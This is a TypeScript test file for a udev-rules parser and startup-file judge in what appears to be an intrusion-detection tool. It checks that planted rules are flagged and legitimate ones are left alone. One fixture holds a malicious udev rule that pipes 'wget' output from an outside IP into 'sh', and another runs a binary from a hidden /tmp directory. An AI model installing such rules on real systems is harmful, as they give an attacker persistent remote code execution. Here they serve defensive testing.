import { describe, expect, it } from 'vitest'
import { found, judged } from '../../judge/fixtures/judging.ts'
import { aStartupFile } from '../../judge/fixtures/startup.ts'
import { parse } from './udev-rules.ts'

const told = (text: string) => parse(text, { path: '/', changed: false }).map(({ line, command }) => [line, command])

describe('udev rules', () => {
  it('are told where they run a program, however it is written', () => {
    expect(
      told(
        'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/tmp/.x/run -d"\n' +
          '# RUN+="/no"\nKERNEL=="sda", SYMLINK+="disk"\n' +
          'SUBSYSTEM=="net", PROGRAM="/bin/a %k", \\\n  RUN{program}+="/bin/b \\"c\\""\nRUN{builtin}+="kmod load x"\nIMPORT{program}="ata_id --export $devnode"\n',
      ),
    ).toEqual([
      [1, '/tmp/.x/run -d'],
      [4, '/bin/a %k\n/bin/b \\"c\\"'],
      [7, '/usr/lib/udev/ata_id --export $devnode'],
    ])
  })

  it('of an intruder go whole when nothing else stands in the file, else by the rule', () => {
    const rule = 'ACTION=="add", RUN+="/bin/sh -c \'wget -qO- http://203.0.113.9/x | sh\'"\n'
    const only = (text: string) => found(judged(aStartupFile('/etc/udev/rules.d/99-x.rules', text)), 'startup')[0]
    expect(only(`# net\n${rule}`)).toMatchObject({ proposed: 'yes', target: { kind: 'file' } })
    expect(only(`KERNEL=="sda", SYMLINK+="disk"\n${rule}`)).toMatchObject({
      proposed: 'yes',
      target: { kind: 'line', line: 2 },
    })
  })

  it('of the owner and of distributions are left alone', () => {
    const text =
      'SUBSYSTEM=="usb", ATTR{idVendor}=="1d6b", RUN+="/usr/local/bin/backup-to-usb %k"\nACTION=="add", SUBSYSTEM=="net", RUN+="ifupdown-hotplug"\nKERNEL=="md*", IMPORT{program}="/sbin/mdadm --detail --no-devices --export $devnode"\n'
    const all = found(judged(aStartupFile('/etc/udev/rules.d/90-ours.rules', text)), 'startup')
    expect(all.filter(({ score, proposed }) => score >= 60 || proposed !== 'no')).toEqual([])
  })
})
